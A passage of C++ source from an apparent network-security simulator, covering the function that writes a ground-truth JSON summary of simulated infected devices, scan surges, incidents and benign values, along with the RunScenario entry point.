    const Org& g = O(h.org);
    bots.push_back(Json()
                       .Str("ip", FormatIpv4(h.ip))
                       .Str("device", h.name)
                       .Str("kind", HostKindName(h.kind))
                       .Str("isp", g.name)
                       .Int("asn", g.asn)
                       .Str("infected_at", internal::Rfc3339(b.t_us))
                       .Done());
  }
  member("infected_devices", list(bots));
  if (st_.surge_event_us >= 0) {
    member("surge", Json()
                        .Str("start", internal::Rfc3339(st_.surge_event_us))
                        .Num("factor", st_.surge_factor, 1)
                        .Num("ramp_hours", st_.surge_ramp_hours, 2)
                        .Raw("ports", "[23,2323]")
                        .Str("counts", "truth/darknet.ndjson")
                        .Done());
  } else {
    member("surge", "null");
  }
  std::vector<std::string> incidents;
  for (const auto& i : st_.incidents) {
    Json j;
    j.Str("kind", i.kind)
        .Str("org", O(i.org).name)
        .Str("sector", O(i.org).sector)
        .Str("start", internal::Rfc3339(i.t_us))
        .Str("end", internal::Rfc3339(i.end_us))
        .Int("hosts", i.hosts)
        .Int("plants", i.plants);
    std::vector<std::string> v;
    for (uint32_t ip : i.victims) v.push_back(FormatIpv4(ip));
    j.StrList("victims", v);
    incidents.push_back(j.Done());
  }
  member("incidents", list(incidents));
  member("indicators", list(indicators));
  std::vector<std::string> scanners;
  for (const Scanner& sc : w_.research_scanners) {
    scanners.push_back(
        Json().Str("ip", FormatIpv4(sc.ip)).Str("name", sc.name).Done());
  }
  member("research_scanners", list(scanners));
  std::vector<std::string> benign;
  for (uint32_t ip : w_.cdn_ips) benign.push_back(str(FormatIpv4(ip)));
  for (const auto& d : w_.popular_domains) benign.push_back(str(d));
  member("benign_values", list(benign));
  member("sboms", list(sboms));
  std::vector<std::string> files;
  for (const OutputFile& f : s.files) {
    Json j;
    j.Str("path", f.path)
        .Str("format", f.format)
        .Int("records", f.records)
        .Int("malicious", f.malicious);
    if (!f.truth.empty()) j.Str("truth", f.truth);
    files.push_back(j.Done());
  }
  member("files", list(files), true);
  o += "}\n";
  return o;
}

}  // namespace

Result<RunSummary> RunScenario(const Scenario& scenario, OutputDir& out,
                               const RunOptions& options) {
  if (!(options.scale > 0) || options.scale > 1e6) {
    return Status::InvalidArgument(
        "--scale must be a number above 0 (at most 1000000)");
  }
  ASSIGN_OR_RETURN(World world, BuildWorld(scenario, Rng(options.seed)));
  if (world.threat.c2_ips.empty() || world.threat.samples.empty()) {
    return Status::InvalidArgument(scenario.source +
                                   ": the [threat] table is required");
  }
  Engine engine(scenario, world, out, options);
  RunSummary summary;
  RETURN_IF_ERROR(engine.Run(&summary));
  return summary;
}

}  // namespace ncert::sim
